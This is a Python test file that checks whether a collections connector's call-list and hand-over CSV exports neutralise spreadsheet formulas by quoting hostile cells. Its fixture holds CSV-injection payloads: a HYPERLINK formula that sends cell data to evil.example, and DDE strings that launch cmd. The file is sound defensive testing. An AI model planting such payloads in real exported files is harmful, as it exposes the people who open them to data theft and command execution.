"""Call lists and hand-over files are opened in a spreadsheet: no cell runs as a formula (issue 11 §11)."""

from __future__ import annotations

import csv
from pathlib import Path

from connector.actions.channels.calls import append_call, call_row
from connector.escaping import FORMULA_PREFIXES
from connector.model import ActionKind, Debtor, DebtorKind, Page
from connector.store import Store
from tests.connector.actions.conftest import CONNECTION, PackageDouble, make_dispatcher, message

FORMULAS = {
    "name": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")",
    "code": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "+cmd|' /C calc'!A0",
}


def _hostile_debtor(store: Store) -> None:
    store.save_page(CONNECTION, "debtors", Page[Debtor](records=[
        Debtor(connection_id=CONNECTION, source_id="evil", code=FORMULAS["code"], name=FORMULAS["name"],
               kind=DebtorKind.BUSINESS, country="NL", language="nl", phone=FORMULAS["phone"]),
    ], bookmark="2"))


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _assert_safe(cells: list[str]) -> None:
    unsafe = [c for c in cells if c.startswith(FORMULA_PREFIXES) and not c.lstrip("-").replace(".", "", 1).isdigit()]
    assert not unsafe, unsafe


def test_the_call_list_and_the_handover_csv_neutralise_formulas(store: Store, package: PackageDouble, tmp_path: Path) -> None:
    _hostile_debtor(store)
    make_dispatcher(store, package, tmp_path, None).run([
        message("c1", ActionKind.CALL_TASK, debtor="evil", channel="phone"),
        message("h1", ActionKind.COLLECTION_HANDOVER, debtor="evil", channel="none"),
    ])
    calls = _cells(tmp_path / "calls.csv")
    [handover] = list((tmp_path / "handover").glob("*.csv"))
    for cells in (calls, _cells(handover)):
        _assert_safe(cells)
        assert "'" + FORMULAS["name"] in cells
        assert "'" + FORMULAS["code"] in cells
    assert "'" + FORMULAS["phone"] in calls


def test_a_call_list_row_is_written_once_even_when_its_key_needed_a_quote(store: Store, tmp_path: Path) -> None:
    _hostile_debtor(store)
    row = call_row(message("-1+1", ActionKind.CALL_TASK, debtor="evil", channel="phone"), store.debtor(CONNECTION, "evil"))
    assert append_call(tmp_path / "calls.csv", row) is True
    assert append_call(tmp_path / "calls.csv", row) is False
    assert sum(1 for c in _cells(tmp_path / "calls.csv") if c == "'-1+1") == 1
